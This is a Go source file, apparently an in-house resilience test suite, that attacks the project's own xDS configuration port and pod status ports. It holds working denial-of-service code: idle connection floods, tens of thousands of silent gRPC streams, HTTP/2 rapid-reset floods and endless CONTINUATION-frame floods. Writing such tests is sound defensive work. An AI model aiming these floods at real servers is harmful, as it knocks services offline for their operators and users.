package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strconv"
	"time"

	discovery "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"

	"outrider.dev/internal/base/contract"
)

// connections are attacks with connections to the port for configuration and certificates, by callers that are
// not authenticated, and by one workload.
var connections = []attacked{
	{
		name: "connections: thousands that send nothing", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) {
			return repeat(ctx, 2000, func(ctx context.Context, _ int) error {
				c, err := (&net.Dialer{}).DialContext(ctx, "tcp", v.at(contract.SecureDiscoveryPort))
				if err != nil {
					return err
				}
				return untilClosed(ctx, c)
			})
		},
	},
	{
		name: "connections: thousands after the handshake, without a certificate", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) { return openMany(ctx, v, 500, v.tls) },
	},
	{
		name: "connections: thousands of one workload", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) {
			return openMany(ctx, v, 500, func() (*tls.Config, error) { return v.holder("hostile") })
		},
	},
	{
		name: "connections: 60,000 silent streams, without a certificate", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) { return silentStreams(ctx, v, v.tls) },
	},
	{
		name: "connections: 60,000 silent streams of one workload", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) {
			return silentStreams(ctx, v, func() (*tls.Config, error) { return v.holder("hostile") })
		},
	},
	{
		name: "connections: streams opened and reset", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) {
			return floodFrames(ctx, v, func(f *http2.Framer, id uint32) error {
				if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers(0), EndHeaders: true}); err != nil {
					return err
				}
				return f.WriteRSTStream(id, http2.ErrCodeCancel)
			})
		},
	},
	{
		name: "connections: headers without an end", ordinary: stream,
		attack: func(ctx context.Context, v victim) (string, error) {
			return floodFrames(ctx, v, func(f *http2.Framer, id uint32) error {
				if id == 1 {
					if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers(0)}); err != nil {
						return err
					}
				}
				return f.WriteContinuation(1, false, headers(16_000)[:16_000])
			})
		},
	},
}

// untilClosed reads until the peer closes the connection.
func untilClosed(ctx context.Context, c net.Conn) error {
	defer context.AfterFunc(ctx, func() { c.Close() })()
	defer c.Close()
	_, err := io.Copy(io.Discard, c)
	return err
}

// openMany keeps n connections open, on which it sends only the frames that HTTP/2 requires.
func openMany(ctx context.Context, v victim, n int, config func() (*tls.Config, error)) (string, error) {
	with, err := config()
	if err != nil {
		return "", err
	}
	return repeat(ctx, n, func(ctx context.Context, _ int) error {
		c, _, err := v.http2(ctx, with)
		if err != nil {
			return err
		}
		return untilClosed(ctx, c)
	})
}

// http2 connects and sends the HTTP/2 preface, which includes the client's first frame.
func (v victim) http2(ctx context.Context, config *tls.Config) (net.Conn, *http2.Framer, error) {
	config = config.Clone()
	config.NextProtos = []string{"h2"}
	c, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", v.at(contract.SecureDiscoveryPort))
	if err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, nil, err
	}
	f := http2.NewFramer(c, c)
	return c, f, f.WriteSettings()
}

// silentStreams opens streams and sends nothing on them.
func silentStreams(ctx context.Context, v victim, config func() (*tls.Config, error)) (string, error) {
	with, err := config()
	if err != nil {
		return "", err
	}
	return repeat(ctx, v.n(20, 60), func(ctx context.Context, _ int) error {
		c, err := v.grpc(with)
		if err != nil {
			return err
		}
		defer c.Close()
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		failed := make(chan error, 1000)
		for range cap(failed) {
			go func() {
				s, err := discovery.NewAggregatedDiscoveryServiceClient(c).DeltaAggregatedResources(ctx, grpc.WaitForReady(true))
				if err == nil {
					_, err = s.Recv()
				}
				failed <- err
			}()
		}
		return <-failed
	})
}

// headers returns the encoded headers that open a configuration stream, and a header with this many more bytes.
func headers(more int) []byte {
	var out bytes.Buffer
	e := hpack.NewEncoder(&out)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", discovery.AggregatedDiscoveryService_DeltaAggregatedResources_FullMethodName},
		{":authority", "x"}, {"content-type", "application/grpc"}, {"te", "trailers"}} {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	for n := 0; n < more; n += 1000 {
		e.WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'x'}, 1000)), Sensitive: true})
	}
	return append(out.Bytes(), make([]byte, more)...)
}

// floodFrames writes frames as fast as the server reads them, over connections that have a workload's certificate.
func floodFrames(ctx context.Context, v victim, frames func(f *http2.Framer, id uint32) error) (string, error) {
	config, err := v.holder("hostile")
	if err != nil {
		return "", err
	}
	return repeat(ctx, 16, func(ctx context.Context, _ int) error {
		c, f, err := v.http2(ctx, config)
		if err != nil {
			return err
		}
		go untilClosed(ctx, c)
		for id := uint32(1); ; id += 2 {
			if err := frames(f, id); err != nil {
				return err
			}
		}
	})
}

// statusPorts are attacks on the status ports of a pod's agent, by a client that can reach the pod.
var statusPorts = []attacked{
	{
		name:     "status ports: 2000 connections that send nothing",
		agent:    true,
		ordinary: probe,
		attack: func(ctx context.Context, v victim) (string, error) {
			to := net.JoinHostPort(v.Pod, strconv.Itoa(contract.ReadinessPort))
			return repeat(ctx, 2000, func(ctx context.Context, _ int) error {
				c, err := (&net.Dialer{Timeout: time.Minute}).DialContext(ctx, "tcp", to)
				if err != nil {
					return err
				}
				defer context.AfterFunc(ctx, func() { c.Close() })()
				defer c.Close()
				_, err = io.Copy(io.Discard, c)
				return err
			})
		},
	},
}
